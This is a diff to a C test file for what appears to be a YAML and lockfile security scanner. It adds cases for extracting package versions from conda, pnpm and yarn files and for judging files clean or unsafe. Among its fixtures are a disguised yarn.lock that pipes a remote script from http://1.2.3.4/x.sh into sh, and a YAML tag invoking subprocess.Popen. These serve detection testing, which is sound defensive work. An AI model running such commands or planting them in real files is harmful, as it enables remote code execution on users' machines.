@@ -199,6 +199,36 @@ static void documents(void **state)
 		{ "a template of another language", "template: '{{! comment }}'\n", GH_OK, NULL, "chat-template" },
 		{ "an environment", "name: e\nchannels: [x]\ndependencies:\n- numpy=1.21\n- pip:\n  - torch==2.0 ; a\n",
 		  GH_OK, "package PyPI \"torch\" \"==2.0\"", "anomaly" },
+		{ "an environment with pip and no channels", "dependencies:\n- numpy=1.21\n- pip:\n  - torch==2.0\n",
+		  GH_OK, "package PyPI \"torch\" \"==2.0\"", "anomaly" },
+		{ "conda-lock",
+		  "version: 1\nmetadata:\n  sources: [a.yml]\npackage:\n- name: numpy\n  version: 1.26.4\n  manager: "
+		  "conda\n"
+		  "  dependencies:\n    version: '>=3'\n    name: x\n  platform: linux-64\n",
+		  GH_OK, "package conda \"numpy\" \"1.26.4\"", "\">=3\"" },
+		{ "conda-lock, by pip", "version: 1\npackage:\n- name: Torch\n  version: 2.5.1\n  manager: pip\n",
+		  GH_OK, "package PyPI \"torch\" \"2.5.1\"", "conda" },
+		{ "pnpm 5", "lockfileVersion: 5.4\npackages:\n  /@a/b/1.2.3_c@4.0.0:\n    dev: true\n", GH_OK,
+		  "package npm \"@a/b\" \"1.2.3\"", NULL },
+		{ "pnpm 6", "lockfileVersion: '6.0'\npackages:\n  /@a/b@1.2.3(@c/d@4.0.0):\n    dev: true\n", GH_OK,
+		  "package npm \"@a/b\" \"1.2.3\"", NULL },
+		{ "pnpm 9",
+		  "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      e:\n        version: 9.9.9\n"
+		  "packages:\n  left-pad@1.3.0:\n    resolution: {integrity: x}\n",
+		  GH_OK, "package npm \"left-pad\" \"1.3.0\"", "9.9.9" },
+		{ "pnpm, from an address",
+		  "lockfileVersion: '9.0'\npackages:\n  a@https://x.example/a.tgz:\n    v: 1\n", GH_OK, NULL,
+		  "package" },
+		{ "yarn 2",
+		  "__metadata:\n  version: 8\n\"@a/b@npm:^1.0.0\":\n  version: 1.2.3\n  resolution: "
+		  "\"@a/b@npm:1.2.3\"\n",
+		  GH_OK, "package npm \"@a/b\" \"1.2.3\"", NULL },
+		{ "yarn 2, of this project",
+		  "__metadata:\n  version: 8\n\"a@workspace:.\":\n  version: 0.0.0-use.local\n  resolution: "
+		  "\"a@workspace:.\"\n",
+		  GH_OK, NULL, "package" },
+		{ "versions elsewhere are no packages", "name: x\nversion: 1.2.3\npackages:\n  a@1.0.0:\n    b: c\n",
+		  GH_OK, NULL, "package" },
 		{ "remote code", "auto_map:\n  A: evil/r--m.T\n", GH_OK, "GH-YAML-0006", NULL },
 		{ "code beside it", "auto_map:\n  A: m.T\n", GH_OK, "GH-YAML-0007", NULL },
 		{ "trust", "trust_remote_code: yes\n", GH_OK, "GH-YAML-0008", NULL },
@@ -284,6 +314,11 @@ static void judged(void **state)
 		{ "a.txt", "!!python/object/apply:subprocess.Popen [[id]]\n", GH_UNSAFE },
 		{ "a.yaml", "# nothing yet\n", GH_CLEAN },
 		{ "a.yaml", "a: 1\n b: 2\n", GH_INCOMPLETE },
+		{ "yarn.lock",
+		  "__metadata:\n  version: 8\n\"a@npm:^1\":\n  version: 1.2.3\n  resolution: \"a@npm:1.2.3\"\n",
+		  GH_CLEAN },
+		{ "yarn.lock", "# yarn lockfile v1\n\n\na@^1.0.0:\n  version \"1.2.3\"\n", GH_CLEAN },
+		{ "yarn.lock", "#!/bin/sh\n# yarn lockfile v1\ncurl -s http://1.2.3.4/x.sh | sh\n", GH_UNSAFE },
 		{ "MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n", GH_CLEAN },
 	};
 	unsigned wrong = 0;
